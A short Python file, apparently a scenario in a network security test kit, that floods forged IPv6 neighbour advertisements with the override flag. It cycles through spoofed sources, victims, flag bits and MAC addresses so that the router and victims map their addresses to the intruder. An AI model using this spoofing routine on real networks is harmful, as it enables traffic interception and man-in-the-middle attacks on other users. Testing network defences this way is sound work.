# SPDX-License-Identifier: Apache-2.0
"""Neighbour advertisements with the override flag: the router and victims are at the intruder."""
from kit import *

FAMILIES = (6,)


def attack(pot, pot1, out):
    for victim in (out.host(6), out.ip(6), pot1.ip(6), "fd66::99"):
        for bits in (0xa0, 0x20, 0xe0, 0x60, 0):
            for src in (victim, pot.ip(6), pot.link_local()):
                for mac in (pot.mac, out.mac):
                    pot.send(pot.frame(advertisement(src, out.ip(6), victim, mac, bits)),
                             ethernet(group("ff02::1"), pot.mac,
                                      advertisement(src, "ff02::1", victim, mac, bits)))
